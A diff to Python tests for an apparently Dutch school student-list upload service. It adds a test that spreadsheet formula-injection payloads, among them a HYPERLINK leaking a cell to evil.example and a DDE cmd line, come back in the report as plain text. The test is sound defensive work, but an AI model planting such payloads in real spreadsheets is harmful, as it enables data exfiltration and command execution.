@@ -88,7 +88,7 @@ def test_errors_per_row_and_column_and_the_report(system, school, smtp):
     assert found == {
         (5, "BSN", "bsn_invalid"),
         (6, "Leerlingnummer", "student_number_not_digits"),
-        (7, "BSN", "bsn_or_onderwijsnummer_required"),
+        (7, "BSN", "bsn_required"),
         (8, "Leerlingnummer", "student_number_duplicate"),
         (9, "Geboortedatum", "date_invalid"),
         (10, "E-mailadres", "email_invalid"),
@@ -117,6 +117,37 @@ def test_errors_per_row_and_column_and_the_report(system, school, smtp):
     assert len(listing) == 7
 
 
+def test_the_report_carries_no_formula_and_goes_back_as_it_is(system, school):
+    """Names a spreadsheet would run as formulas come back in report.xlsx as
+    text; the report keeps the template's formatting, and sent back as it is
+    the school gets the same verdict (its rows and errors unchanged)."""
+    _inst, admin = school
+    hostile = {"Voornaam": '=HYPERLINK("http://evil.example/?d="&B2,"klik")',
+               "Achternaam": "=cmd|' /C calc'!A0", "Tussenvoegsel": "@SUM(1+1)",
+               "Woonplaats": "+31 6 12345678"}
+    rows = [{**xf.student_row(1), **hostile},
+            {**xf.student_row(2), "BSN": 3965223, "Postcode": "2235 SD"}]
+    r = submit(system, admin, xf.make_list(rows))
+    up = verdict(system, admin, r.json()["id"])
+    first = sorted((e["row"], e["column"], e["code"]) for e in up["errors"])
+    assert first == [(3, "BSN", "bsn_leading_zeros_lost"), (3, "Postcode", "postcode_invalid")]
+    wait_until(lambda: system.get(f"{API}/uploads/{up['id']}", token=admin).json()
+               ["report_ready"], timeout=20)
+    report = system.get(f"{API}/uploads/{up['id']}/report.xlsx", token=admin).content
+    wb = load_workbook(io.BytesIO(report))
+    ws = wb["Leerlingen"]
+    titles = [c.value for c in ws[1]]
+    for title, text in hostile.items():
+        cell = ws.cell(row=2, column=titles.index(title) + 1)
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), title
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
+    assert ws.column_dimensions["B"].number_format == "@"            # BSN stays text
+    assert wb.sheetnames == ["Leerlingen", "Fouten", "Instructies"]
+    assert [c.value for c in wb["Fouten"][1]] == ["Rij", "Kolom", "Melding", "Code"]
+    again = verdict(system, admin, submit(system, admin, report, "rapport.xlsx").json()["id"])
+    assert sorted((e["row"], e["column"], e["code"]) for e in again["errors"]) == first
+
+
 def test_column_titles_missing_extra_and_misspelled(system, school):
     _inst, admin = school
     titles = [c for c in xf.student_row(1)]
@@ -134,7 +165,8 @@ def test_column_titles_missing_extra_and_misspelled(system, school):
     assert unknown["Voornam"]["suggestion"] == "Voornaam"
     assert "Bedoelt u 'Voornaam'?" in unknown["Voornam"]["message"]
     assert "suggestion" not in unknown["Opmerking"]
-    assert {e["column"] for e in by_code["column_missing"]} == {"Voornaam", "Klas"}
+    # Voornaam is named once (the suggestion), Klas as missing
+    assert {e["column"] for e in by_code["column_missing"]} == {"Klas"}
     assert all(e["row"] == 1 for e in up["errors"])
 
 
